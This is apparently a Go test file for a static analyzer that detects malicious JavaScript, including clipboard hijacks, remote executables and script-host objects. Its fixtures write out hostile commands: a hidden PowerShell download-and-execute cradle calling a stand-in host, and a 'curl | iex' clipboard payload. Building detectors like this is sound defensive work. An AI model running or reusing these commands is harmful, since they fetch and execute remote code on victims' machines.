package static

import (
	"strings"
	"testing"

	fuzz "github.com/AdaLogics/go-fuzz-headers"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func detectionCodes(res Result) []string {
	var out []string
	for _, d := range res.Detections {
		out = append(out, d.Code)
	}
	return out
}

func TestAnalyze(t *testing.T) {
	t.Run("should flag command payloads inside literals", func(t *testing.T) {
		res := Analyze(`var c = "powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://x.example/p')";`)
		assert.Contains(t, detectionCodes(res), "static_malicious_command")
		assert.Contains(t, res.URLs, "http://x.example/p")
	})

	t.Run("should escalate clipboard hijacks to critical", func(t *testing.T) {
		res := Analyze(`run('navigator.clipboard.writeText("cmd.exe /c curl http://x | iex")');`)
		var found bool
		for _, d := range res.Detections {
			if d.Code == "static_clipboard_hijack" {
				found = true
				assert.Equal(t, 10, d.Severity)
			}
		}
		assert.True(t, found)
	})

	t.Run("should flag remote executables", func(t *testing.T) {
		res := Analyze(`location.href = "http://dl.example/setup_update.exe";`)
		require.Contains(t, detectionCodes(res), "static_remote_malicious_file")
	})

	t.Run("should ignore short literals", func(t *testing.T) {
		res := Analyze(`var a = "cmd /c http://x";`)
		assert.Empty(t, res.Detections)
	})

	t.Run("should scan the whole source for script host objects", func(t *testing.T) {
		res := Analyze(`var sh = WScript.CreateObject(x); sh.Run(cmd);`)
		require.Len(t, res.Detections, 1)
		assert.Equal(t, "static_windows_script_host", res.Detections[0].Code)
		assert.Equal(t, 2, res.Detections[0].Features["occurrences"])
	})

	t.Run("should be clean on benign code", func(t *testing.T) {
		res := Analyze(`function add(a, b) { return a + b; } console.log("the quick brown fox jumps");`)
		assert.Empty(t, res.Detections)
		assert.Empty(t, res.URLs)
	})
}

func TestExtractStringLiterals(t *testing.T) {
	src := "a = \"double \\\" quoted literal\"; b = 'single quoted literal here'; c = `template ${x} literal body`;"
	got := ExtractStringLiterals(src, 10)
	assert.Len(t, got, 3)
	assert.Equal(t, `double \" quoted literal`, got[0])
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte(`eval(atob("YWxlcnQoMSk="))`))
	f.Add([]byte(strings.Repeat("'", 64)))
	f.Fuzz(func(t *testing.T, data []byte) {
		fz := fuzz.NewConsumer(data)
		src, err := fz.GetString()
		if err != nil {
			return
		}
		first := Analyze(src)
		second := Analyze(src)
		if len(first.Detections) != len(second.Detections) {
			t.Fatalf("static analysis is not deterministic")
		}
	})
}
